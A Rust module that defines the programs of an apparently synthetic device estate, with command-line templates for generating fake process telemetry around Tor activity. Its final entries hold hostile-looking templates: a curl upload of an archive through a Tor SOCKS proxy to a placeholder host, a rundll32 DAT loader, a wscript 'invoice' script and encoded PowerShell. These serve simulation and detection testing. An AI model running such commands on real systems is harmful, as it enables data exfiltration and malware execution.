//! The programs of the synthetic estate: what they are, who runs them, how often they connect, how they are called.

/// The operating system that a program is for.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub(super) enum System {
    Windows,
    Linux,
}

/// The account that runs a program.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub(super) enum Identity {
    /// The device's user.
    User,
    System,
    NetworkService,
    Root,
}

/// One program.
#[derive(Debug)]
pub(super) struct Program {
    pub(super) file: &'static str,
    pub(super) folder: &'static str,
    pub(super) company: &'static str,
    pub(super) product: &'static str,
    pub(super) description: &'static str,
    pub(super) parent: &'static str,
    pub(super) system: System,
    pub(super) identity: Identity,
    /// How busy it is; 0: only in events that touch Tor.
    pub(super) weight: u16,
    /// Distinct command lines.
    pub(super) command_lines: usize,
    pub(super) templates: &'static [&'static str],
}

/// A service of Windows.
const WINDOWS: Program = Program {
    file: "",
    folder: r"c:\windows\system32",
    company: "Microsoft Corporation",
    product: "Microsoft Windows Operating System",
    description: "",
    parent: "services.exe",
    system: System::Windows,
    identity: Identity::System,
    weight: 0,
    command_lines: 0,
    templates: &[],
};

/// Something that a person starts.
const DESKTOP: Program = Program {
    file: "",
    folder: r"c:\windows",
    company: "Microsoft Corporation",
    product: "Microsoft Windows Operating System",
    description: "",
    parent: "explorer.exe",
    system: System::Windows,
    identity: Identity::User,
    weight: 0,
    command_lines: 0,
    templates: &[],
};

/// A daemon of a Linux server.
const LINUX: Program = Program {
    file: "",
    folder: "/usr/bin",
    company: "",
    product: "",
    description: "",
    parent: "systemd",
    system: System::Linux,
    identity: Identity::Root,
    weight: 0,
    command_lines: 0,
    templates: &[],
};

/// Sorted by nothing but what belongs together; versions, hashes and command lines are numbered in this order.
pub(super) static PROGRAMS: [Program; 34] = [
    Program {
        file: "chrome.exe",
        folder: r"c:\program files\google\chrome\application",
        company: "Google LLC",
        product: "Google Chrome",
        description: "Google Chrome",
        weight: 220,
        command_lines: 3000,
        templates: &[
            r#""chrome.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none --start-stack-profiler --field-trial-handle={n},i,{n}{n},{n}{n},262144 --variations-seed-version=20260{n} --mojo-platform-channel-handle={n} /prefetch:3"#,
            r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --profile-directory=Default --app-id={h} --single-argument https://{host}/a/{g}?ref={h}&session={g}"#,
        ],
        ..DESKTOP
    },
    Program {
        file: "msedge.exe",
        folder: r"c:\program files (x86)\microsoft\edge\application",
        product: "Microsoft Edge",
        description: "Microsoft Edge",
        weight: 180,
        command_lines: 3000,
        templates: &[
            r#""msedge.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=de --service-sandbox-type=none --user-data-dir="C:\Users\Default\AppData\Local\Microsoft\Edge\User Data" --field-trial-handle={n},i,{n}{n},{n}{n},524288 --enable-features=msEdgeUpdate{n} --variations-seed-version --mojo-platform-channel-handle={n} /prefetch:3"#,
            r#""C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --single-argument https://{host}/doc/{g}"#,
        ],
        ..DESKTOP
    },
    Program {
        file: "ms-teams.exe",
        folder: r"c:\program files\windowsapps\msteams_8wekyb3d8bbwe",
        product: "Microsoft Teams",
        description: "Microsoft Teams",
        weight: 90,
        command_lines: 800,
        templates: &[
            r#""ms-teams.exe" msteams:system-initiated --session={g}"#,
            r#""C:\Program Files\WindowsApps\MSTeams_8wekyb3d8bbwe\ms-teams.exe" -embedding --correlation {g}"#,
        ],
        ..DESKTOP
    },
    Program {
        file: "outlook.exe",
        folder: r"c:\program files\microsoft office\root\office16",
        product: "Microsoft Outlook",
        description: "Microsoft Outlook",
        weight: 80,
        command_lines: 40,
        templates: &[
            r#""C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE""#,
            r#""OUTLOOK.EXE" /eml "C:\Users\Public\Downloads\{h}.eml""#,
        ],
        ..DESKTOP
    },
    Program {
        file: "svchost.exe",
        description: "Host Process for Windows Services",
        identity: Identity::NetworkService,
        weight: 150,
        command_lines: 30,
        templates: &[
            "svchost.exe -k NetworkService -p -s Dnscache",
            "svchost.exe -k netsvcs -p -s wuauserv",
            "svchost.exe -k NetworkService -p -s DoSvc",
            "svchost.exe -k utcsvc -p",
            "svchost.exe -k LocalService -p -s W32Time",
        ],
        ..WINDOWS
    },
    Program {
        file: "system",
        folder: r"c:\windows",
        company: "",
        product: "",
        parent: "",
        weight: 60,
        command_lines: 1,
        templates: &["System"],
        ..WINDOWS
    },
    Program {
        file: "lsass.exe",
        description: "Local Security Authority Process",
        parent: "wininit.exe",
        weight: 45,
        command_lines: 1,
        templates: &["lsass.exe"],
        ..WINDOWS
    },
    Program {
        file: "mssense.exe",
        folder: r"c:\program files\windows defender advanced threat protection",
        description: "Windows Defender Advanced Threat Protection Service",
        weight: 40,
        command_lines: 1,
        templates: &[r#""MsSense.exe""#],
        ..WINDOWS
    },
    Program {
        file: "msmpeng.exe",
        folder: r"c:\programdata\microsoft\windows defender\platform",
        description: "Antimalware Service Executable",
        weight: 35,
        command_lines: 1,
        templates: &[r#""MsMpEng.exe""#],
        ..WINDOWS
    },
    Program {
        file: "onedrive.exe",
        folder: r"c:\program files\microsoft onedrive",
        product: "Microsoft OneDrive",
        description: "Microsoft OneDrive",
        weight: 55,
        command_lines: 4,
        templates: &[
            r#""OneDrive.exe" /background"#,
            r#""C:\Program Files\Microsoft OneDrive\OneDrive.exe" /background /setautostart"#,
        ],
        ..DESKTOP
    },
    Program {
        file: "explorer.exe",
        description: "Windows Explorer",
        parent: "userinit.exe",
        weight: 20,
        command_lines: 2,
        templates: &["Explorer.EXE", r"C:\Windows\explorer.exe /factory,{g} -Embedding"],
        ..DESKTOP
    },
    Program {
        file: "backgroundtaskhost.exe",
        folder: r"c:\windows\system32",
        description: "Background Task Host",
        parent: "svchost.exe",
        weight: 18,
        command_lines: 300,
        templates: &[r#""BackgroundTaskHost.exe" -ServerName:App.AppX{h}.mca"#],
        ..DESKTOP
    },
    Program {
        file: "msedgewebview2.exe",
        folder: r"c:\program files (x86)\microsoft\edgewebview\application",
        product: "Microsoft Edge WebView2",
        description: "Microsoft Edge WebView2",
        parent: "ms-teams.exe",
        weight: 70,
        command_lines: 2500,
        templates: &[
            r#""msedgewebview2.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --noerrdialogs --user-data-dir="C:\Users\Public\AppData\Local\Packages\MSTeams\EBWebView" --webview-exe-name=ms-teams.exe --webview-exe-version=24.{n} --embedded-browser-webview=1 --field-trial-handle={n},i,{n}{n},{n}{n},262144 --disable-features=MojoIpcz --enable-features=SharedArrayBuffer --mojo-platform-channel-handle={n} /prefetch:3"#,
        ],
        ..DESKTOP
    },
    Program {
        file: "powershell.exe",
        folder: r"c:\windows\system32\windowspowershell\v1.0",
        description: "Windows PowerShell",
        parent: "svchost.exe",
        weight: 12,
        command_lines: 600,
        templates: &[
            r#"powershell.exe -NoProfile -NonInteractive -ExecutionPolicy Bypass -File "C:\ProgramData\Inventory\collect-{n}.ps1""#,
            "powershell.exe -NoProfile -EncodedCommand {b}",
            r#""powershell.exe" -Command "& Get-Inventory""#,
        ],
        ..WINDOWS
    },
    Program {
        file: "python.exe",
        folder: r"c:\program files\python312",
        company: "Python Software Foundation",
        product: "Python",
        description: "Python",
        parent: "cmd.exe",
        weight: 8,
        command_lines: 200,
        templates: &[
            "python.exe -m pip install --index-url https://{host}/simple pkg{n}",
            r#""python.exe" C:\jobs\report_{n}.py --since 2026-01-01 --token {h}"#,
        ],
        ..DESKTOP
    },
    Program {
        file: "code.exe",
        folder: r"c:\program files\microsoft vs code",
        product: "Visual Studio Code",
        description: "Visual Studio Code",
        weight: 14,
        command_lines: 500,
        templates: &[
            r#""Code.exe" --type=utility --utility-sub-type=node.mojom.NodeService --lang=en-US --service-sandbox-type=none --dns-result-order=ipv4first --field-trial-handle={n},i,{n}{n},262144 --mojo-platform-channel-handle={n}"#,
        ],
        ..DESKTOP
    },
    Program {
        file: "git-remote-https.exe",
        folder: r"c:\program files\git\mingw64\bin",
        company: "The Git Development Community",
        product: "Git",
        description: "Git",
        parent: "git.exe",
        weight: 6,
        command_lines: 300,
        templates: &["git-remote-https.exe origin https://{host}/team/repo{n}.git"],
        ..DESKTOP
    },
    Program {
        file: "searchapp.exe",
        folder: r"c:\windows\systemapps\microsoft.windows.search_cw5n1h2txyewy",
        description: "Search application",
        parent: "svchost.exe",
        weight: 16,
        command_lines: 2,
        templates: &[r#""SearchApp.exe" -ServerName:CortanaUI.AppX8z9r6jm96hw4bsbneegw0kyxx296wr9t.mca"#],
        ..DESKTOP
    },
    Program {
        file: "zoom.exe",
        folder: r"c:\program files\zoom\bin",
        company: "Zoom Communications, Inc.",
        product: "Zoom Workplace",
        description: "Zoom Workplace",
        weight: 22,
        command_lines: 200,
        templates: &[r#""Zoom.exe" --action=join --runaszvideo=TRUE --session={g}"#],
        ..DESKTOP
    },
    Program {
        file: "spoolsv.exe",
        description: "Spooler SubSystem App",
        weight: 6,
        command_lines: 1,
        templates: &["spoolsv.exe"],
        ..WINDOWS
    },
    Program {
        file: "w3wp.exe",
        folder: r"c:\windows\system32\inetsrv",
        product: "Internet Information Services",
        description: "IIS Worker Process",
        parent: "svchost.exe",
        identity: Identity::NetworkService,
        weight: 6,
        command_lines: 20,
        templates: &[
            r#"w3wp.exe -ap "Pool{n}" -v "v4.0" -l "webengine4.dll" -a \\.\pipe\iisipm{g} -h "C:\inetpub\temp\apppools\Pool.config" -w "" -m 0"#,
        ],
        ..WINDOWS
    },
    Program {
        file: "sqlservr.exe",
        folder: r"c:\program files\microsoft sql server\mssql16\mssql\binn",
        product: "Microsoft SQL Server",
        description: "SQL Server Windows NT - 64 Bit",
        identity: Identity::NetworkService,
        weight: 6,
        command_lines: 1,
        templates: &[r#""sqlservr.exe" -sMSSQLSERVER"#],
        ..WINDOWS
    },
    Program {
        file: "setup.exe",
        folder: r"c:\windows\temp",
        company: "",
        product: "",
        description: "Setup",
        parent: "msiexec.exe",
        weight: 2,
        command_lines: 200,
        templates: &[r"C:\Windows\Temp\{g}\setup.exe /quiet /norestart /log C:\Windows\Temp\{h}.log"],
        ..WINDOWS
    },
    Program {
        file: "curl",
        parent: "bash",
        identity: Identity::User,
        weight: 12,
        command_lines: 300,
        templates: &[
            "curl -fsSL https://{host}/health/{n}",
            "curl -X POST -d @/tmp/batch-{h}.json https://{host}/ingest",
        ],
        ..LINUX
    },
    Program {
        file: "python3",
        weight: 20,
        command_lines: 40,
        templates: &["/usr/bin/python3 /opt/agent/agent{n}.py --interval 60"],
        ..LINUX
    },
    Program {
        file: "nginx",
        folder: "/usr/sbin",
        weight: 30,
        command_lines: 2,
        templates: &["nginx: worker process"],
        ..LINUX
    },
    Program {
        file: "sshd",
        folder: "/usr/sbin",
        weight: 10,
        command_lines: 60,
        templates: &["sshd: deploy@pts/{n}"],
        ..LINUX
    },
    Program {
        file: "dockerd",
        weight: 12,
        command_lines: 1,
        templates: &["/usr/bin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock"],
        ..LINUX
    },
    Program {
        file: "java",
        folder: "/usr/lib/jvm/bin",
        identity: Identity::User,
        weight: 25,
        command_lines: 30,
        templates: &[
            "java -Xms4g -Xmx4g -XX:+UseG1GC -Djava.io.tmpdir=/var/tmp/{h} -Dlog4j2.formatMsgNoLookups=true -cp /opt/app/lib/*:/opt/app/conf/ example.app.Main --node {n}",
        ],
        ..LINUX
    },
    Program {
        file: "tor.exe",
        folder: r"c:\users\public\desktop\tor browser\browser\torbrowser\tor",
        company: "",
        product: "",
        parent: "firefox.exe",
        command_lines: 3,
        templates: &[
            r#""tor.exe" --defaults-torrc "C:\Users\Public\Desktop\Tor Browser\Browser\TorBrowser\Data\Tor\torrc-defaults" -f torrc DisableNetwork 1 +__SocksPort "127.0.0.1:9150""#,
        ],
        ..DESKTOP
    },
    Program {
        file: "softphone.exe",
        folder: r"c:\users\public\appdata\local\programs\softphone\app",
        company: "Softphone Example Ltd",
        product: "Softphone",
        description: "Softphone desktop app",
        command_lines: 6,
        templates: &[r#""softphone.exe" --autoLaunch --session {g}"#],
        ..DESKTOP
    },
    Program {
        file: "rundll32.exe",
        folder: r"c:\windows\system32",
        description: "Windows host process (Rundll32)",
        command_lines: 12,
        templates: &[r"rundll32.exe C:\ProgramData\{h}.dat,Start {n}"],
        ..DESKTOP
    },
    Program {
        file: "wscript.exe",
        folder: r"c:\windows\system32",
        description: "Microsoft Windows Based Script Host",
        command_lines: 12,
        templates: &[r#"wscript.exe "C:\Users\Public\Downloads\invoice_{n}.js""#],
        ..DESKTOP
    },
    Program {
        file: "curl.exe",
        folder: r"c:\windows\system32",
        company: "curl, https://curl.se/",
        product: "The curl executable",
        description: "The curl executable",
        parent: "cmd.exe",
        command_lines: 12,
        templates: &[r"curl.exe --socks5-hostname 127.0.0.1:9050 -T C:\ProgramData\{h}.7z https://{host}/u/{n}"],
        ..DESKTOP
    },
];
